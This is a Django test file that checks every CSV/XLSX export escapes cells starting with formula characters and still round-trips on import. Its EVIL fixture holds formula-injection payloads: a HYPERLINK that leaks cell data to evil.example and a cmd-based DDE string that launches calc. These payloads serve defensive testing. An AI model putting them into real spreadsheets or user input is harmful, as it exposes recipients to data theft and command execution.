"""Issue 9 item 7: CSV/XLSX formula injection. Every spreadsheet export neutralises cells that start with
``= + - @``, a tab or a carriage return (an apostrophe in front), and the export still imports back."""

from __future__ import annotations

import csv
import io

from django.urls import URLPattern, URLResolver, get_resolver, reverse

from kopiena.core.spreadsheets import FORMULA_TRIGGERS, cell_safe, cell_unescape
from kopiena.publishing.importers import posts_import
from kopiena.publishing.models import Post
from kopiena.publishing.services import post_approve, post_create, post_schedule
from kopiena.teams.models import Role
from kopiena.teams.selectors import access_workspace
from tests.api.conftest import api_client  # noqa: F401 - the shared fixture
from tests.publishing.conftest import _fake_connector, daytime, make_account  # noqa: F401
from tests.publishing.test_import import relax_policy

EVIL = {
    "text": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "theme": "+1+cmd|' /C calc'!A0",
    "tags": ["@SUM(1+1)"],
    "first_comment": "-2+3",
    "link_context": "\tfaq",
}
# Every export of the product: (name, how to fetch it). The route scan below fails when one is added
# without being listed here.
# (URL names; the API's operations are URL patterns too.)
EXPORT_ROUTES = {"calendar_export", "posts_export"}
# Listening's exports write every cell through listening.export.cell_safe (core.spreadsheets.cell_safe for
# lists and booleans too); their own tests feed them a formula: tests/listening/test_api.py
# (queries, mentions) and tests/listening/test_competitors.py (competitors; leaders share the writer).
LISTENING_EXPORT_ROUTES = {
    "queries_export",
    "mentions_export",
    "competitors_export",
    "leaders_export",
    "listening_competitors_csv",
    "listening_leaders_csv",
}
# Contests' entries CSV writes every cell through core.spreadsheets.cell_safe; tests/contests/test_views.py
# feeds it a formula.
CONTEST_EXPORT_ROUTES = {"contest_entries_csv", "contests_entries_csv"}
# Analytics writes every text cell of every table through core.spreadsheets.cell_safe (kopiena/analytics/
# tables.py); tests/analytics/test_pages.py feeds a formula through the CSV and the XLSX export.
ANALYTICS_EXPORT_ROUTES = {"analytics_export", "table_export_csv", "table_export_xlsx"}
NOT_SPREADSHEETS = {
    "policy_export": "the policy as a YAML document",
    "contest_export": "a contest's public draw export (JSON)",
    "contests_draw_export": "a contest's draw export (JSON)",
}


def _routes(resolver=None, prefix=""):
    for entry in (resolver or get_resolver()).url_patterns:
        if isinstance(entry, URLResolver):
            yield from _routes(entry, prefix + str(entry.pattern))
        elif isinstance(entry, URLPattern):
            yield entry.name or "", prefix + str(entry.pattern)


def test_every_export_route_is_covered_here():
    found = {
        name or route
        for name, route in _routes()
        if any(k in route.lower() or k in name for k in ("export", ".csv", ".xlsx", "xls"))
    }
    assert found - set(NOT_SPREADSHEETS) == (
        EXPORT_ROUTES | LISTENING_EXPORT_ROUTES | CONTEST_EXPORT_ROUTES | ANALYTICS_EXPORT_ROUTES
    )


def test_cell_helper():
    for trigger in FORMULA_TRIGGERS:
        assert cell_safe(trigger + "x") == "'" + trigger + "x"
        assert cell_unescape(cell_safe(trigger + "x")) == trigger + "x"
    assert cell_safe("Sveiki") == "Sveiki" and cell_safe(None) == "" and cell_safe(-3) == "'-3"
    assert cell_unescape("'quoted") == "'quoted"


def _exports(client, token_client, workspace) -> list[str]:
    ui = client.get(reverse("calendar_export", kwargs={"ws": workspace.slug}))
    assert ui.status_code == 200
    api = token_client.get("/posts/export.csv")
    assert api.status_code == 200
    return [ui.content.decode(), api.content.decode()]


def test_every_export_neutralises_formulas_and_round_trips(
    api_client,  # noqa: F811
    member,
    login,
    workspace,
    other_workspace,
    make_account,  # noqa: F811
):
    manager = member(Role.MANAGER)
    access = access_workspace(actor=manager, slug=workspace.slug)
    relax_policy(access)
    account = make_account("@evil", approval_required=False)
    post = post_create(access=access, account_ids=[account.pk], **EVIL)
    post_approve(access=access, post_id=post.pk)
    post_schedule(access=access, post_id=post.pk, at=daytime(2))

    bodies = _exports(login(manager), api_client(manager, workspace), workspace)
    for body in bodies:
        rows = list(csv.reader(io.StringIO(body)))
        assert len(rows) == 2
        for cell in rows[1]:
            assert not cell.startswith(FORMULA_TRIGGERS), (cell, body)
        assert "'=HYPERLINK(" in body and "'@SUM(1+1)" in body and "'-2+3" in body

    # The export imports back unchanged (the apostrophes come off again).
    stranger = other_workspace.memberships.get().user
    theirs = access_workspace(actor=stranger, slug=other_workspace.slug)
    relax_policy(theirs)
    make_account("@evil", ws=other_workspace, approval_required=False)
    result = posts_import(access=theirs, content=bodies[0].encode(), filename="x.csv", dry_run=False)
    assert result.ok, result.problems
    copy = Post.objects.get(workspace=other_workspace)
    assert copy.text == EVIL["text"] and copy.theme == EVIL["theme"] and copy.tags == EVIL["tags"]
    assert copy.first_comment == EVIL["first_comment"]
